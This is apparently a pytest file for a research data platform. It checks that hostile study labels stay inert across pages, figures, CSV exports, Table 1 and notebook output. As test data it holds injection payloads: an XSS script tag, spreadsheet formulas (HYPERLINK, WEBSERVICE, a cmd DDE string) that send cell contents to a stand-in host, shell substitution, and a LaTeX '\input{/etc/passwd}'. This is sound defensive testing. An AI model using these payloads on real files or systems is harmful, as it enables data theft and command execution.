"""Texts of others in whatever leaves: a study whose title, labels, units and levels would act.

Pages are opened in `test_workbench.py`, too; here are files: figures of each kind and format, CSV, the crate, Table 1
in each form, notebooks' HTML, and code to copy. Files of a site are in `test_hostile_airlock.py`. No program of ours
writes a workbook: spreadsheets are read alone.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import pandas as pd
import pytest
from stage.browser.web_stage import HOSTILE, ODD, WebStage, words
from stage.browser.workbench import Read, csrf
from stage.coordinator_side.delivered import cohort, cohort_plan, deliver, join
from stage.house.sources import PACKAGES, ROOT

from coordinator.analyst.elsewhere import metafor_code, methods_text
from coordinator.analyst.table_one import TableOne
from coordinator.figures.companions import KINDS
from coordinator.web.interface.operations import FILES
from coordinator.web.interface.reading import result_of
from shared.plans.dictionary import Column
from shared.plans.plan import sign_plan
from shared.terminal import FORMULA, without_formulas

RUN = "=HYPERLINK(\"http://elsewhere.org?\"&A1,'<b>')"
"""What a spreadsheet would run, were it a cell."""
WARD = ("@SUM(A1)|<script>alert(3)</script>", RUN, "$(id)`id`\\input{/etc/passwd}%{{7*7}}")
QUESTIONS = {
    "cox": {"kind": "cox", "formula": "Surv(time, cvd) ~ C(ward) + sbp"},
    "mean": {"kind": "mean", "formula": "chol"},
    "km": {"kind": "km", "formula": "Surv(time, cvd) ~ ward", "options": {"at": "5"}},
    "spline": {"kind": "logistic", "formula": "cvd ~ ns(age, df = 2) + C(ward)"},
    "refused": {"formula": f"mean(chol, subset = ward == '{HOSTILE}"},
}
ACTIVE = re.compile(rb"/(JavaScript|JS|URI|Launch|OpenAction|AA|SubmitForm|EmbeddedFile)\b")
"""What acts in a PDF."""


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    made = WebStage(tmp_path_factory.mktemp("texts") / "hub")
    plan = cohort_plan(**ODD, **{'label = "total cholesterol"': f"label = {json.dumps(RUN)}"})
    ward = Column(name="ward", kind="nominal", levels=WARD, label=HOSTILE)
    dictionary = dataclasses.replace(plan.dictionary, columns=(*plan.dictionary.columns, ward))
    plan = dataclasses.replace(plan, dictionary=dictionary)
    made.store.add_plan(sign_plan(plan, [made.lead]), plan)
    for seed, (site, n) in enumerate({"alpha": 500, "beta": 400, "gamma": 300}.items()):
        given = made.authority.invite(site, ["odd"], address="localhost:1", leads=[made.lead.public], days=300)
        made.store.add_invitation(given)
        table = cohort(n, seed).assign(ward=pd.Categorical([WARD[k % 3] for k in range(n)], categories=WARD))
        deliver(made.store, plan, site, join(made.store, given), table)
    made.start()
    yield made
    made.running.stop(0.2)
    made.store.close()


@pytest.fixture(scope="module")
def web(hub):
    with hub.web(hub.admit("lotte", ("odd",), "lead")) as client:
        yield client


@pytest.fixture(scope="module")
def answers(web):
    """Name of a question to its answer."""
    found = {name: web.post("/v1/studies/odd/queries", json=asked) for name, asked in QUESTIONS.items()}
    assert found.pop("refused").status_code == 422
    return {name: answered.json() for name, answered in found.items()}


def named(text: str) -> bool:
    """True where a text of the study stands in it, as letters."""
    return "alert(1)" in text or "alert(3)" in text or "HYPERLINK" in text


def test_on_every_page_of_such_answers_they_are_letters(hub, web, answers):
    with hub.web() as reader:
        reader.post("/sign-in", data={"token": hub.admit("lea", ("odd",), "lead")})
        csrf(reader, "/studies/odd/ask")
        places = [f"/studies/odd/results/{one['result']}" for one in answers.values()]
        compared = f"/studies/odd/compare?a={answers['cox']['result']}&b={answers['km']['result']}"
        for path in (*places, *(f"{one}/sites/beta" for one in places), compared, "/studies/odd/log"):
            page = reader.get(path)
            assert page.status_code == 200, path
            assert Read(page.text).acting == [], path
        assert "<script>alert(1)</script>" in words(page), "the question that was refused"


def test_in_every_figure_they_are_letters_in_every_format(web, answers):
    seen, drawn = "", []
    for name, answer in answers.items():
        own = {"km": ["curve"], "spline": ["dose-response"]}.get(name, [])
        for kind in (*own, "forest", *KINDS):
            found = {
                suffix: web.get(f"/v1/studies/odd/results/{answer['result']}/{kind}.{suffix}")
                for suffix in FILES
                if suffix != "csv"
            }
            if found["svg"].status_code == 422:  # a figure that this answer has not
                continue
            drawn.append(kind)
            tree = ElementTree.fromstring(found["svg"].content)
            names = {element.tag.rpartition("}")[2] for element in tree.iter()}
            assert not names & {"script", "foreignObject", "image", "a", "iframe"}, kind
            assert not [name for element in tree.iter() for name in element.attrib if name.lower().startswith("on")]
            seen += "".join(tree.itertext())
            assert ACTIVE.findall(found["pdf"].content) == [], kind
            assert found["png"].content.startswith(b"\x89PNG"), kind
    assert {"forest", "curve", "dose-response", "funnel", "leave-one-out"} <= set(drawn)
    assert named(seen)


def test_in_no_csv_there_is_a_cell_that_a_spreadsheet_runs(web, answers, tmp_path):
    tables = {}
    for name, answer in answers.items():
        place = f"/v1/studies/odd/results/{answer['result']}"
        tables |= {f"{name} {kind}": web.get(f"{place}/{kind}.csv").text for kind in ("table", "forest")}
        result_of(answer).export(tmp_path / "own.csv")
        tables[f"{name} own"] = (tmp_path / "own.csv").read_text(encoding="utf-8")
        with zipfile.ZipFile(io.BytesIO(web.get(f"{place}/crate.zip").content)) as archive:
            tables |= {f"{name} {one}": archive.read(one).decode() for one in archive.namelist() if one.endswith("csv")}
    described(web).write(tmp_path / "one.csv")
    tables["table one"] = (tmp_path / "one.csv").read_text(encoding="utf-8")
    for name, text in tables.items():
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert [cell for cell in cells if FORMULA.search(cell)] == [], name


RUNS = {
    '=HYPERLINK("http://elsewhere.org?"&A1)': '\'=HYPERLINK("http://elsewhere.org?"&A1)',
    "@SUM(A1)": "'@SUM(A1)",
    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
    '+1+WEBSERVICE("http://elsewhere.org/"&A1)': '\'+1+WEBSERVICE("http://elsewhere.org/"&A1)',
    "-2 * LOG10 (A1)": "'-2 * LOG10 (A1)",
    "\t=A1": "'\t'=A1",
    "\n=A1": "'\n'=A1",
    "\uff1dA1": "'\uff1dA1",
    "never;=A1;1": "never;'=A1;1",
}
PLAIN = ("-1 to 3", "-0.5 (1.2)", "-5 to -1 points (low)", "+", "sbp >= 3", "a = b; c (d)", "\u22121")


def test_what_a_spreadsheet_runs_has_an_apostrophe_before_it_and_nothing_else_has():
    written = without_formulas(pd.DataFrame({"level": [*RUNS, *PLAIN]}))
    assert list(written["level"]) == [*RUNS.values(), *PLAIN]


def test_no_program_writes_a_workbook():
    writes = re.compile(r"to_excel|ExcelWriter|xlsxwriter|\bWorkbook\b")
    files = [file for package in PACKAGES for file in (ROOT / package).rglob("*.py")]
    assert [file for file in files if writes.search(file.read_text(encoding="utf-8"))] == []
    assert len(files) > 100


def described(web) -> TableOne:
    """A Table 1 of the column whose levels would act."""
    asked = web.post("/v1/studies/odd/queries", json={"formula": "table_one(ward, chol, by = ward)"})
    assert asked.status_code == 200, asked.text
    return TableOne(asked.json())


def test_a_table_one_is_letters_in_every_form(web, tmp_path):
    found = described(web)
    for shown in (found.html(), found._repr_html_()):
        assert Read(shown).acting == []
        assert named(html.unescape(shown))
    text = found.latex()
    assert r"\input{" not in text
    assert r"\$(id)" in text
    found.write(tmp_path / "one.json")
    assert json.loads((tmp_path / "one.json").read_text())["cells"]


def test_in_a_notebook_and_in_what_is_copied_they_are_letters(answers):
    seen = ""
    for name, answer in answers.items():
        result = result_of(answer)
        for shown in (result._repr_html_(), html_of(result.tidy()), html_of(result.to_frame())):
            assert [one for one in Read(shown).acting if one != "style"] == [], name
        said = metafor_code(answer)
        for line in said.splitlines():
            quoted = re.sub(r'"(?:[^"\\]|\\.)*"', "", line.partition("#")[0])
            assert not named(quoted), line
        seen += said + " ".join(methods_text(answer))
    assert named(seen)


def html_of(frame: pd.DataFrame) -> str:
    """A frame as a notebook shows it."""
    return frame.to_html()
